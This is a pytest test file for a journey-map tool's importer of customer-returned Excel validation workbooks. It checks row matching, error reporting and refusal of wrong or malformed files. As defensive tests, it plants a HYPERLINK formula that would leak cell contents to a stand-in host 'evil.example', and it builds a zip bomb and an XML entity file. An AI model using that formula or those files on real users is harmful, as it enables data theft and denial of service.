"""Reading a returned validation workbook (exporters/validation_import.py): answers matched by id
whatever the customer did to the rows, their own rows read as missing steps, bad rows reported by
number, and any other file refused in one line that says what it is."""

from __future__ import annotations

import io
import zipfile
from datetime import datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from exporters import validation_import
from exporters.validation_import import ValidationImportError, read_validation_workbook
from journeymap_designer.model.elements import Verdict
from journeymap_designer.model.fileformat import load_workspace
from journeymap_designer.model.generate import generate_workspace
from journeymap_designer.model.workspace import Workspace
from journeymap_designer.starter import sample_path

from .test_safety import ENTITY_TRICK
from .validation_helpers import export, fill, sheet_ids

CARD, OTHER, MOMENT = "tp-acq-demo-request", "tp-aw-webinar", "mot-first-value"


@pytest.fixture(scope="module")
def workspace() -> Workspace:
    return load_workspace(sample_path())


@pytest.fixture(scope="module")
def blank(tmp_path_factory: pytest.TempPathFactory, workspace: Workspace) -> Path:
    return export(workspace, tmp_path_factory.mktemp("v") / "validation.xlsx")


def _one_line(exc: pytest.ExceptionInfo[ValidationImportError]) -> str:
    message = str(exc.value)
    assert "\n" not in message
    return message


def test_answers_are_matched_by_id_after_rows_are_sorted_filtered_and_deleted(
    tmp_path: Path, workspace: Workspace, blank: Path
) -> None:
    ids = sheet_ids(blank)
    assert CARD in ids and MOMENT in ids
    keep = {CARD: ("Confirmed", ""), OTHER: ("Needs change", "We never go"), MOMENT: ("needs change ", "")}

    def reshuffle(sheet: Any, header: int, cols: dict[str, int]) -> None:
        rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=header + 1)]
        rows = [r for r in rows if r[cols["ID"] - 1] in keep or len(r) % 2]  # most rows deleted
        sheet.delete_rows(header + 1, sheet.max_row)
        for values in sorted(rows, key=lambda r: str(r[cols["Step"] - 1]), reverse=True):
            sheet.append(values)
        sheet.auto_filter.ref = f"A{header}:I{sheet.max_row}"
        sheet.row_dimensions[header + 1].hidden = True  # filtered out: still read

    returned = fill(blank, tmp_path / "back.xlsx", keep, change=reshuffle)
    found = read_validation_workbook(returned, workspace)
    got = {a.element_id: (a.verdict, a.comment) for a in found.answers}
    assert got == {
        CARD: (Verdict.CONFIRMED, ""),
        OTHER: (Verdict.NEEDS_CHANGE, "We never go"),
        MOMENT: (Verdict.NEEDS_CHANGE, ""),
    }
    assert not found.problems
    step = next(a for a in found.answers if a.element_id == CARD)
    assert step.step == workspace.core.touchpoints[CARD].title and step.row > 5


def test_rows_the_customer_added_are_missing_steps(tmp_path: Path, workspace: Workspace, blank: Path) -> None:
    added = [
        {"Stage": "Onboarding", "Step": "A kickoff call", "Your comment": "Nobody called us"},
        {"What happens": "We sign the DPA\nwith legal", "Your answer": "Confirmed"},
        {"Stage": "Renewal", "Your answer": "Missing something"},  # nothing to act on: skipped
    ]
    found = read_validation_workbook(fill(blank, tmp_path / "b.xlsx", {}, added), workspace)
    assert [(a.element_id, a.verdict, a.step) for a in found.answers] == [
        (None, Verdict.MISSING, "A kickoff call"),
        (None, Verdict.MISSING, "We sign the DPA"),
    ]
    assert found.answers[0].comment == "Nobody called us\nStage: Onboarding"
    assert found.answers[1].comment == "We sign the DPA\nwith legal"
    assert not found.problems


def test_bad_rows_are_reported_by_number_and_the_good_ones_kept(
    tmp_path: Path, workspace: Workspace, blank: Path
) -> None:
    def breaks(sheet: Any, header: int, cols: dict[str, int]) -> None:
        sheet.cell(header + 3, cols["ID"]).value = "tp-gone"
        sheet.cell(header + 3, cols["Your answer"]).value = "Confirmed"

    answers = {CARD: ("Confirmed", ""), OTHER: ("Perhaps", ""), MOMENT: ("", "Only a comment")}
    found = read_validation_workbook(fill(blank, tmp_path / "b.xlsx", answers, change=breaks), workspace)
    assert [a.element_id for a in found.answers] == [CARD]
    messages = {p.row: p.message for p in found.problems}
    assert "unknown id 'tp-gone'" in messages[6 + 2]
    assert any("answer 'Perhaps' is not Confirmed" in m for m in messages.values())
    assert any("a comment but no answer" in m for m in messages.values())
    assert found.blank == found.rows - 4  # one answer, three problems


def test_a_formula_is_read_as_text_and_never_computed(
    tmp_path: Path, workspace: Workspace, blank: Path
) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'

    def formulas(sheet: Any, header: int, cols: dict[str, int]) -> None:
        row = next(r for r in range(header + 1, sheet.max_row + 1) if sheet.cell(r, cols["ID"]).value == CARD)
        cell = sheet.cell(row, cols["Your comment"])
        cell.value = hostile
        cell.data_type = "s"  # as a customer's "=..." typed as text
        sheet.cell(row + 1, cols["Your comment"]).value = "=1+1"  # a real formula, never computed

    returned = fill(blank, tmp_path / "f.xlsx", {CARD: ("Confirmed", "")}, change=formulas)
    found = read_validation_workbook(returned, workspace)
    assert found.answers[0].comment == hostile
    # a real formula has no value saved with it: read as an empty cell, never computed to "2"
    assert len(found.answers) == 1 and not found.problems
    assert found.blank == found.rows - 1


def test_columns_are_found_by_header_on_a_renamed_sheet_without_title_rows(
    tmp_path: Path, workspace: Workspace
) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "Antworten"
    sheet.append(["ID", "your answer", "Your Comment", "Step"])
    sheet.append([CARD, "Confirmed", 42, "Requests a demo"])
    sheet.append([OTHER, "Missing something", datetime(2025, 1, 2, 3, 4), 3.0])
    book.properties.creator = "Journey Map Designer"
    book.save(tmp_path / "r.xlsx")
    found = read_validation_workbook(tmp_path / "r.xlsx", workspace)
    assert [(a.element_id, a.comment, a.step) for a in found.answers] == [
        (CARD, "42", "Requests a demo"),
        (OTHER, "2025-01-02T03:04:00", "3"),
    ]
    assert found.sheet == "Antworten" and found.customer == ""
    assert found.answered_at.endswith("+00:00")


def test_who_answered_and_when_come_from_the_file(tmp_path: Path, workspace: Workspace, blank: Path) -> None:
    found = read_validation_workbook(fill(blank, tmp_path / "c.xlsx", {}, who="Ana Ruiz"), workspace)
    assert found.customer == "Ana Ruiz" and found.source == "c.xlsx"
    assert datetime.fromisoformat(found.answered_at).tzinfo is not None
    found = read_validation_workbook(fill(blank, tmp_path / "d.xlsx", {}, who=None), workspace)
    assert found.customer == ""  # only our own name in the file: no hint


def test_a_segment_answer_keeps_its_segment(tmp_path: Path, workspace: Workspace) -> None:
    segments = [None, *workspace.segments]
    book = export(workspace, tmp_path / "all.xlsx", segments)
    smb = workspace.segment_by_name("SMB")
    assert smb is not None

    def answer_in_smb(sheet: Any, header: int, cols: dict[str, int]) -> None:
        for row in range(header + 1, sheet.max_row + 1):
            if sheet.cell(row, cols["Journey"]).value == "SMB" and sheet.cell(row, cols["ID"]).value == OTHER:
                sheet.cell(row, cols["Your answer"]).value = "Needs change"

    returned = fill(book, tmp_path / "b.xlsx", {CARD: ("Confirmed", "")}, change=answer_in_smb)
    found = read_validation_workbook(returned, workspace)
    assert {(a.element_id, a.segment_id) for a in found.answers} == {(CARD, None), (OTHER, smb.id)}


def test_the_workbook_of_another_map_is_refused(tmp_path: Path, blank: Path) -> None:
    returned = fill(blank, tmp_path / "b.xlsx", {CARD: ("Confirmed", "")})
    with pytest.raises(ValidationImportError) as exc:
        read_validation_workbook(returned, generate_workspace(10, 0, seed=3))
    message = _one_line(exc)
    assert "b.xlsx: a validation workbook of another map: none of its" in message
    assert "'tp-" in message and "is in \u201c" in message


def _zip(path: Path, parts: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def _workbook(path: Path, *titles: str) -> Path:
    book = openpyxl.Workbook()
    assert book.active is not None
    book.active.title = titles[0]
    for title in titles[1:]:
        book.create_sheet(title).append(["a", "b"])
    book.save(path)
    return path


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (
            lambda p: _workbook(p, "Sheet1", "Data"),
            "a workbook with sheets Sheet1, Data: no 'Customer validation'",
        ),
        (lambda p: p.write_bytes(b"%PDF-1.7\n..."), "not an Excel workbook (it is a PDF)"),
        (
            lambda p: p.write_bytes(b"Step,Answer\nx,Confirmed\n"),
            "not an Excel workbook (it is a text or CSV",
        ),
        (lambda p: p.write_bytes(b""), "not an Excel workbook (it is empty)"),
        (lambda p: p.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), "an Office 97-2003 file"),
        (lambda p: p.write_bytes(sample_path().read_bytes()), "it is a JSON file"),
        (
            lambda p: _zip(p, {"ppt/presentation.xml": b"<p/>"}),
            "not an Excel workbook (it is a PowerPoint deck)",
        ),
        (lambda p: p.write_bytes(b"PK\x03\x04" + b"\0" * 40), "not an Excel workbook"),
        (
            lambda p: _zip(p, {"xl/workbook.xml": b"<w/>", "xl/worksheets/sheet1.xml": ENTITY_TRICK}),
            "declares a DOCTYPE or entities",
        ),
        (
            lambda p: _zip(
                p, {"xl/workbook.xml": b"<w/>", "xl/sharedStrings.xml": b"\0" * (60 * 1024 * 1024)}
            ),
            "unpacks too large (a zip bomb?)",
        ),
        (lambda p: _zip(p, {"xl/workbook.xml": b"<not closed"}), "a damaged Excel workbook"),
        (lambda p: p.mkdir(), "is a folder"),
    ],
)
def test_anything_else_is_refused_in_one_line_saying_what_it_is(
    tmp_path: Path, workspace: Workspace, make: Any, message: str
) -> None:
    path = tmp_path / "returned.xlsx"
    make(path)
    with pytest.raises(ValidationImportError) as exc:
        read_validation_workbook(path, workspace)
    assert message in _one_line(exc)


def test_a_sheet_without_its_id_column_is_refused(tmp_path: Path, workspace: Workspace, blank: Path) -> None:
    def drop_ids(sheet: Any, header: int, cols: dict[str, int]) -> None:
        sheet.delete_cols(cols["ID"])

    with pytest.raises(ValidationImportError) as exc:
        read_validation_workbook(fill(blank, tmp_path / "b.xlsx", {}, change=drop_ids), workspace)
    assert "no header row with 'Your answer' and 'ID'" in _one_line(exc)


def test_huge_files_and_sheets_are_refused_before_they_are_read(
    tmp_path: Path, workspace: Workspace, blank: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(validation_import, "MAX_FILE", 1_000)
    with pytest.raises(ValidationImportError) as exc:
        read_validation_workbook(blank, workspace)
    assert "refused" in _one_line(exc) and "MB at most" in str(exc.value)
    monkeypatch.undo()
    monkeypatch.setattr(validation_import, "MAX_ROWS", 20)
    with pytest.raises(ValidationImportError) as exc:
        read_validation_workbook(blank, workspace)
    assert "has more than 20 rows" in _one_line(exc)


def test_a_huge_cell_is_clipped_to_what_excel_holds(tmp_path: Path, workspace: Workspace) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Your answer", "Your comment", "ID"])
    sheet.append(["Needs change", "x" * 100_000, CARD])
    data = io.BytesIO()
    book.save(data)
    (tmp_path / "h.xlsx").write_bytes(data.getvalue())
    found = read_validation_workbook(tmp_path / "h.xlsx", workspace)
    assert len(found.answers[0].comment) == 32_767
